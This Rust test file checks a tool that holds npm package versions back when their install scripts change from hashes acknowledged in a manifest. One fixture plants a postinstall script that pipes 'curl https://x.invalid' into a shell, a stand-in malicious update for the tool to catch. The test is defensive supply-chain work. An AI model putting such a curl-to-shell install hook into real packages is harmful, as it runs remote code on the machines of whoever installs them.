//! Install scripts pinned by content (docs/inputs.md): a changed install script or a new one
//! of an allowed package holds its version back until the manifest acknowledges the new
//! content; `lock` checks every lockfile entry of such a package; and the committed manifest
//! acknowledges what the committed lock's real tarballs run.

use serde_json::{json, Value};
use sha2::Digest as _;

use crate::lock::with_pinned_npm;
use crate::support::npm_fixture::{
    days_ago, fixture_install_script, fixture_manifest, fixture_now, realistic, scratch_root,
    FixtureRegistry,
};
use crate::support::xtask::{xtask, Run};
use crate::support::{checkout_file, checkout_path};

fn run_in(root: &std::path::Path, registry: &FixtureRegistry, command: &[&str]) -> Run {
    xtask()
        .args(command)
        .args(["--registry", &registry.url])
        .args(["--now", &fixture_now().to_rfc3339()])
        .env("XTASK_ROOT", root)
        .env("XTASK_RETRY_BASE_MS", "50")
        .run()
}

fn package<'a>(resolution: &'a Value, name: &str) -> &'a Value {
    resolution["packages"]
        .as_array()
        .unwrap()
        .iter()
        .find(|p| p["name"] == name)
        .unwrap()
}

fn sha256(text: &str) -> String {
    hex::encode(sha2::Sha256::digest(text.as_bytes()))
}

/// Publishes `version` of claude-code (and its platform packages), its postinstall running
/// `install_file` with `install_body`, and `extra_scripts` besides.
fn publish_claude(
    registry: &FixtureRegistry,
    version: &str,
    scripts: Value,
    files: &[(&str, &str)],
) {
    let mut optional = serde_json::Map::new();
    for cpu in ["x64", "arm64"] {
        let platform = format!("@anthropic-ai/claude-code-linux-{cpu}");
        registry.publish(
            &platform,
            version,
            json!({ "os": ["linux"], "cpu": [cpu], "license": "SEE LICENSE IN README.md" }),
            &[],
            days_ago(5),
        );
        optional.insert(platform, json!(version));
    }
    let mut all = vec![("bin/claude.js", "console.log('claude');\n")];
    all.extend_from_slice(files);
    registry.publish(
        "@anthropic-ai/claude-code",
        version,
        json!({ "license": "SEE LICENSE IN README.md", "bin": { "claude": "bin/claude.js" },
                "optionalDependencies": optional, "scripts": scripts }),
        &all,
        days_ago(5),
    );
}

#[test]
fn a_changed_install_script_holds_the_version_back_until_the_manifest_acknowledges_it() {
    let registry = realistic();
    let (command, file, genuine) = fixture_install_script("@anthropic-ai/claude-code");
    let changed = "require('child_process').execSync('curl https://x.invalid | sh');\n";
    publish_claude(
        &registry,
        "1.2.0",
        json!({ "postinstall": command }),
        &[(file, changed)],
    );
    let root = scratch_root(&[]);
    let out = run_in(root.path(), &registry, &["resolve", "--json"]);
    let r = out.assert_success().json();
    let claude = package(&r, "@anthropic-ai/claude-code");
    assert_eq!(claude["version"], "1.1.0", "{claude}");
    assert_eq!(claude["held_back"], true);
    let held = &claude["rejected"][0];
    assert_eq!(held["version"], "1.2.0");
    let why = held["reasons"].to_string();
    assert!(
        why.contains("install.cjs")
            && why.contains(&sha256(changed))
            && why.contains(&sha256(genuine)),
        "{why}"
    );
    assert_eq!(
        held["install_scripts"]["files"]["install.cjs"],
        sha256(changed)
    );
    // The remedy: the manifest lines to paste once the new content is reviewed.
    let err = out.stderr_text();
    assert!(
        err.contains("install_scripts_allowed")
            && err.contains(&format!("install.cjs: {}", sha256(changed))),
        "{err}"
    );

    // A maintainer reviews it and pastes the lines: then 1.2.0 is taken.
    let remedy: String = err
        .lines()
        .skip_while(|l| !l.starts_with("to let @anthropic-ai/claude-code 1.2.0"))
        .skip(1)
        .take_while(|l| l.starts_with("  "))
        .map(|l| format!("{l}\n"))
        .collect();
    assert!(remedy.contains("postinstall: node install.cjs"), "{err}");
    let manifest = fixture_manifest();
    let start = manifest.find("  \"@anthropic-ai/claude-code\":\n").unwrap();
    let end = manifest[start..].find("  \"opencode-ai\":").unwrap() + start;
    let acknowledged = format!("{}{remedy}{}", &manifest[..start], &manifest[end..]);
    std::fs::write(root.path().join("template/manifest.yaml"), acknowledged).unwrap();
    let r = run_in(root.path(), &registry, &["resolve", "--json"])
        .assert_success()
        .json();
    assert_eq!(package(&r, "@anthropic-ai/claude-code")["version"], "1.2.0");
}

#[test]
fn a_new_preinstall_or_a_changed_command_holds_the_version_back() {
    let registry = realistic();
    let (command, file, genuine) = fixture_install_script("@anthropic-ai/claude-code");
    // 1.2.0 adds a preinstall; 1.3.0 runs its install file through another command.
    publish_claude(
        &registry,
        "1.2.0",
        json!({ "preinstall": "node setup.js", "postinstall": command }),
        &[(file, genuine), ("setup.js", "1;\n")],
    );
    publish_claude(
        &registry,
        "1.3.0",
        json!({ "postinstall": format!("{command} --force") }),
        &[(file, genuine)],
    );
    let root = scratch_root(&[]);
    let r = run_in(root.path(), &registry, &["resolve", "--json"])
        .assert_success()
        .json();
    let claude = package(&r, "@anthropic-ai/claude-code");
    assert_eq!(claude["version"], "1.1.0", "{claude}");
    let reasons: Vec<String> = claude["rejected"]
        .as_array()
        .unwrap()
        .iter()
        .map(|r| r["reasons"].to_string())
        .collect();
    assert!(
        reasons[0].contains("postinstall is `node install.cjs --force` in 1.3.0"),
        "{reasons:?}"
    );
    assert!(
        reasons[1].contains("preinstall is `node setup.js` in 1.2.0, none acknowledged")
            && reasons[1].contains("setup.js (sha256"),
        "{reasons:?}"
    );
}

/// `lock` reads every lockfile entry of an allowed package from the tarball the lockfile
/// names: a copy nested under another package, at a version whose script changed, fails the
/// lock naming its path, and nothing is written.
#[test]
fn lock_refuses_an_entry_of_an_allowed_package_whose_scripts_differ() {
    let registry = realistic();
    with_pinned_npm(&registry);
    let (command, file, _) = fixture_install_script("opencode-ai");
    let mut optional = serde_json::Map::new();
    for cpu in ["x64", "arm64"] {
        let platform = format!("opencode-linux-{cpu}");
        registry.publish(
            &platform,
            "0.9.0",
            json!({ "os": ["linux"], "cpu": [cpu] }),
            &[],
            days_ago(20),
        );
        optional.insert(platform, json!("0.9.0"));
    }
    registry.publish(
        "opencode-ai",
        "0.9.0",
        json!({ "license": "MIT", "optionalDependencies": optional,
                "scripts": { "postinstall": command } }),
        &[(file, "console.log('an older, different script');\n")],
        days_ago(20),
    );
    // ws 1.1.0 needs opencode-ai 0.9.0, which npm nests below it.
    registry.edit("ws", |p| {
        p["versions"]["1.1.0"]["dependencies"] = json!({ "opencode-ai": "0.9.0" })
    });
    let root = scratch_root(&[]);
    let out = run_in(root.path(), &registry, &["lock"]);
    out.assert_failure();
    let err = out.stderr_text();
    assert!(
        err.contains("opencode-ai@0.9.0 (node_modules/ws/node_modules/opencode-ai)")
            && err.contains("postinstall.mjs has sha256")
            && err.contains("template/ was not changed"),
        "{err}"
    );
    assert!(!root.path().join("template/package-lock.json").exists());
}

/// Real data: the committed manifest acknowledges exactly what the committed lock's allowed
/// packages run, as their real tarballs (the lockfile's URLs and integrity) say. Computed here
/// without the tool: the tarball unpacked with `tar`, its package.json's lifecycle commands,
/// and the sha256 of each acknowledged file.
#[test]
fn the_committed_manifest_acknowledges_what_the_committed_lock_runs() {
    let manifest =
        template_formats::manifest::Manifest::load(&checkout_path("template/manifest.yaml"))
            .unwrap();
    let lock: Value = serde_json::from_slice(&checkout_file("template/package-lock.json")).unwrap();
    assert!(!manifest.install_scripts_allowed.is_empty());
    for (name, acknowledged) in &manifest.install_scripts_allowed {
        let entry = &lock["packages"][format!("node_modules/{name}")];
        let (url, integrity) = (
            entry["resolved"].as_str().unwrap(),
            entry["integrity"].as_str().unwrap(),
        );
        let bytes = download(url);
        let digest = base64::Engine::encode(
            &base64::engine::general_purpose::STANDARD,
            sha2::Sha512::digest(&bytes),
        );
        assert_eq!(format!("sha512-{digest}"), integrity, "{url}");
        let mut files = std::collections::BTreeMap::new();
        let mut archive = tar::Archive::new(flate2::read::GzDecoder::new(bytes.as_slice()));
        for entry in archive.entries().unwrap() {
            let mut entry = entry.unwrap();
            let path = entry.path().unwrap().to_string_lossy().into_owned();
            let mut body = Vec::new();
            std::io::Read::read_to_end(&mut entry, &mut body).unwrap();
            files.insert(path.split_once('/').unwrap().1.to_owned(), body);
        }
        let package_json: Value = serde_json::from_slice(&files["package.json"]).unwrap();
        for script in ["preinstall", "install", "postinstall"] {
            assert_eq!(
                package_json["scripts"][script].as_str(),
                acknowledged.command(script),
                "{name} {script}"
            );
        }
        assert!(!acknowledged.files.is_empty(), "{name}");
        for (path, sha) in &acknowledged.files {
            assert_eq!(
                &hex::encode(sha2::Sha256::digest(&files[path])),
                sha,
                "{name} {path}"
            );
        }
    }
}

fn download(url: &str) -> Vec<u8> {
    let out = std::process::Command::new("curl")
        .args(["-fsS", "--max-time", "60", url])
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "curl {url}: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    out.stdout
}
